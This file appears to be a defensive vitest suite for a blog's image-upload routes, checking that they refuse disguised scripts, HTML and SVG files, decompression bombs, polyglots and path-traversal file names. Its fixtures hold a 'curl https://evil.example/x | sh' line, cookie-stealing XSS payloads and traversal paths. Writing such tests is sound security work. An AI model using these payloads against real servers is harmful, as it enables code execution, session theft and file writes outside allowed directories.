import { existsSync } from "node:fs";
import { readdir } from "node:fs/promises";
import path from "node:path";
import { beforeAll, describe, expect, it } from "vitest";
import { type Reply } from "../support/http.js";
import {
  fetchServed,
  gifClaiming,
  pngClaiming,
  pngImage,
  sixteenBitPng,
  uploadedFiles,
} from "../support/images.js";
import { addCategory, addPost } from "../support/post-fixtures.js";
import { failOnServerErrors } from "../support/server-errors.js";
import { openTestSite } from "../support/site.js";
import sharp from "sharp";

const {
  server,
  api,
  admin,
  users: { author },
} = await openTestSite({ users: ["author"] });

let category: string;
let postId: string;

beforeAll(async () => {
  category = (await addCategory(api, admin, "Attacks")).title;
  postId = (await addPost(api, author, { category }))._id;
});
failOnServerErrors(() => server);

interface UploadFile {
  bytes: Buffer;
  /** Written into the part's header byte for byte, so a test can send what FormData would clean. */
  filename: string;
  contentType: string;
}

/** A multipart body built by hand: the file name reaches the server exactly as given. */
function multipart(fields: Record<string, string>, file: UploadFile) {
  const boundary = `----attack${Math.random().toString(36).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [name, value] of Object.entries(fields)) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`,
      ),
    );
  }
  parts.push(
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="image"; filename="${file.filename}"\r\n` +
        `Content-Type: ${file.contentType}\r\n\r\n`,
      "latin1",
    ),
    file.bytes,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  );
  return { body: Buffer.concat(parts), contentType: `multipart/form-data; boundary=${boundary}` };
}

/** What an upload route leaves behind: its row's image and the files under DATA_DIR/uploads. */
interface UploadRoute {
  name: string;
  send(file: UploadFile): Promise<Reply>;
  /** The stored state a refused upload must leave untouched (row count or image key). */
  state(): Promise<unknown>;
  /** The served URL of the image a successful upload stored. */
  storedUrl(reply: Reply): string;
  /** Whether a refusal names the form field (`errors.image`) beside its message. */
  namesField?: boolean;
}

/** The body of a refusal with `message` on this route. */
const refusal = (route: UploadRoute, message: string) =>
  route.namesField ? { message, errors: { image: message } } : { message };

const raw =
  (method: "POST" | "PUT", url: string, fields: Record<string, string>) =>
  async (file: UploadFile) => {
    const { body, contentType } = multipart(fields, file);
    return api.raw(method, url, new Uint8Array(body), {
      token: author.token,
      headers: { "content-type": contentType },
    });
  };

const ROUTES: UploadRoute[] = [
  {
    name: "POST /api/posts",
    send: (file) =>
      raw("POST", "/api/posts", { title: "Attack", category, description: "An upload" })(file),
    state: async () =>
      Number(
        (
          await server.app.deps.db
            .selectFrom("posts")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow()
        ).n,
      ),
    storedUrl: (reply) => (reply.body as { image: { url: string } }).image.url,
  },
  {
    name: "PUT /api/posts/post-image/:id",
    send: (file) => raw("PUT", `/api/posts/post-image/${postId}`, {})(file),
    state: () =>
      server.app.deps.db
        .selectFrom("posts")
        .select("image_key")
        .where("id", "=", postId)
        .executeTakeFirstOrThrow(),
    storedUrl: (reply) => (reply.body as { image: { url: string } }).image.url,
  },
  {
    name: "POST /api/users/profile/profile-photo",
    send: (file) => raw("POST", "/api/users/profile/profile-photo", {})(file),
    state: () =>
      server.app.deps.db
        .selectFrom("users")
        .select("photo_key")
        .where("id", "=", author.id)
        .executeTakeFirstOrThrow(),
    storedUrl: (reply) => (reply.body as { profilePhoto: { url: string } }).profilePhoto.url,
  },
  {
    name: "POST /api/posts/images",
    send: (file) => raw("POST", "/api/posts/images", {})(file),
    state: async () =>
      Number(
        (
          await server.app.deps.db
            .selectFrom("body_images")
            .select((eb) => eb.fn.countAll().as("n"))
            .executeTakeFirstOrThrow()
        ).n,
      ),
    storedUrl: (reply) => (reply.body as { url: string }).url,
    namesField: true,
  },
];

/** Sends an upload that must be refused, and checks that it left no row and no file. */
async function expectRefused(route: UploadRoute, file: UploadFile, status: number) {
  const files = await uploadedFiles(server);
  const state = await route.state();
  const reply = await route.send(file);
  expect(reply.status, reply.text).toBe(status);
  const { message } = reply.body as { message: unknown };
  expect(typeof message).toBe("string");
  expect(reply.body).toEqual(refusal(route, String(message)));
  expect(await uploadedFiles(server)).toEqual(files);
  expect(await route.state()).toEqual(state);
  return reply;
}

const BOMBS = {
  hugePng: pngClaiming(50_000, 50_000),
  hugeGif: gifClaiming(50_000, 50_000),
  // Under the pixel cap, but 144 MB once decoded: a GIF is decoded as RGBA.
  heavyGif: gifClaiming(6000, 6000),
  // Under the pixel cap, but 238 MB once decoded at 6 bytes a pixel.
  deepPng: sixteenBitPng(6300, 6300),
};

const SCRIPT = Buffer.from("#!/bin/sh\ncurl https://evil.example/x | sh\n");
const HTML = Buffer.from("<!doctype html><html><body><script>alert(document.cookie)</script>");
const SVG = Buffer.from(
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" ' +
    'onload="alert(document.cookie)"><script>alert(1)</script></svg>',
);

describe.each(ROUTES)("$name refuses", (route) => {
  it.each([
    {
      kind: "a shell script named photo.jpg",
      bytes: SCRIPT,
      filename: "photo.jpg",
      type: "image/jpeg",
    },
    {
      kind: "an HTML page named photo.jpg",
      bytes: HTML,
      filename: "photo.jpg",
      type: "image/jpeg",
    },
    { kind: "an HTML page named photo.gif", bytes: HTML, filename: "photo.gif", type: "image/gif" },
    { kind: "an SVG sent as an SVG", bytes: SVG, filename: "logo.svg", type: "image/svg+xml" },
    { kind: "an SVG named logo.png", bytes: SVG, filename: "logo.png", type: "image/png" },
  ])("$kind with 415", async ({ bytes, filename, type }) => {
    const reply = await expectRefused(route, { bytes, filename, contentType: type }, 415);
    expect(reply.body).toEqual(refusal(route, "Unsupported File Format"));
  });

  it.each([
    { kind: "a PNG claiming 50000x50000 pixels", bomb: BOMBS.hugePng, type: "image/png" },
    { kind: "a GIF claiming 50000x50000 pixels", bomb: BOMBS.hugeGif, type: "image/gif" },
    { kind: "a 35-byte GIF claiming 6000x6000 pixels", bomb: BOMBS.heavyGif, type: "image/gif" },
    { kind: "a 16-bit PNG of 6300x6300 pixels", bomb: BOMBS.deepPng, type: "image/png" },
  ])("a decompression bomb ($kind) at once and without the memory", async ({ bomb, type }) => {
    const bytes = await bomb;
    expect(bytes.length).toBeLessThan(300_000);
    const rssBefore = process.memoryUsage().rss;
    const started = performance.now();
    const files = await uploadedFiles(server);
    const state = await route.state();
    const reply = await route.send({ bytes, filename: "bomb.png", contentType: type });
    expect(reply.status, reply.text).toBe(400);
    expect(reply.body).toEqual(refusal(route, "Image dimensions are too large"));
    // Decoding them would take seconds and hundreds of megabytes at least; the header is enough.
    expect(performance.now() - started).toBeLessThan(1500);
    expect(process.memoryUsage().rss - rssBefore).toBeLessThan(100 * 1024 * 1024);
    expect(await uploadedFiles(server)).toEqual(files);
    expect(await route.state()).toEqual(state);
  });

  it("a JPEG header followed by HTML (no picture behind it) with 415", async () => {
    const polyglot = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 16]), HTML]);
    await expectRefused(
      route,
      { bytes: polyglot, filename: "x.jpg", contentType: "image/jpeg" },
      415,
    );
  });
});

describe.each(ROUTES)("$name, given a real JPEG with HTML after it", (route) => {
  it("stores only a re-encoded WebP, served as image/webp with nosniff", async () => {
    const jpeg = await sharp({
      create: { width: 32, height: 32, channels: 3, background: { r: 200, g: 10, b: 10 } },
    })
      .jpeg()
      .toBuffer();
    const polyglot = Buffer.concat([jpeg, HTML]);
    const reply = await route.send({
      bytes: polyglot,
      filename: "x.html",
      contentType: "text/html",
    });
    expect(reply.status, reply.text).toBeLessThan(300);
    const served = await fetchServed(server, route.storedUrl(reply));
    expect(served.status).toBe(200);
    expect(served.headers.get("content-type")).toBe("image/webp");
    expect(served.headers.get("x-content-type-options")).toBe("nosniff");
    expect(served.bytes.subarray(0, 4).toString("latin1")).toBe("RIFF");
    expect(served.bytes.subarray(8, 12).toString("latin1")).toBe("WEBP");
    expect(served.bytes.includes(Buffer.from("<script"))).toBe(false);
  });
});

/** Every file under a folder, relative to it. */
async function filesUnder(root: string) {
  const entries = await readdir(root, { recursive: true, withFileTypes: true });
  return entries
    .filter((entry) => entry.isFile())
    .map((entry) => path.relative(root, path.join(entry.parentPath, entry.name)));
}

const STORED_VARIANT = /^uploads\/images\/[0-9a-f-]{36}\/(sm|md|lg)\.webp$/;

describe.each(ROUTES)("$name, given a path in the file name", (route) => {
  const marker = `escape-${Math.random().toString(36).slice(2, 10)}`;
  it.each([
    `../../${marker}.jpg`,
    `../../../../../../tmp/${marker}.jpg`,
    `/tmp/${marker}.jpg`,
    `..\\..\\${marker}.jpg`,
    `C:\\Windows\\Temp\\${marker}.jpg`,
    `${marker}\u0000.jpg`,
    `uploads/../../${marker}.jpg`,
  ])(
    "stores %j under a generated key inside DATA_DIR/uploads, and nowhere else",
    async (filename) => {
      const before = new Set(await filesUnder(server.dataDir));
      const reply = await route.send({
        bytes: await pngImage(16, 16),
        filename,
        contentType: "image/png",
      });
      expect(reply.status, reply.text).toBeLessThan(300);
      expect(route.storedUrl(reply)).not.toContain(marker);
      const added = (await filesUnder(server.dataDir)).filter((file) => !before.has(file));
      expect(added.length).toBeGreaterThan(0);
      for (const file of added) expect(file).toMatch(STORED_VARIANT);
      const escapes = [
        path.resolve(server.dataDir, "..", `${marker}.jpg`),
        path.resolve(server.dataDir, "../..", `${marker}.jpg`),
        path.join("/tmp", `${marker}.jpg`),
        path.join(server.dataDir, "uploads", `${marker}.jpg`),
      ];
      for (const escape of escapes) expect(existsSync(escape), escape).toBe(false);
    },
  );
});
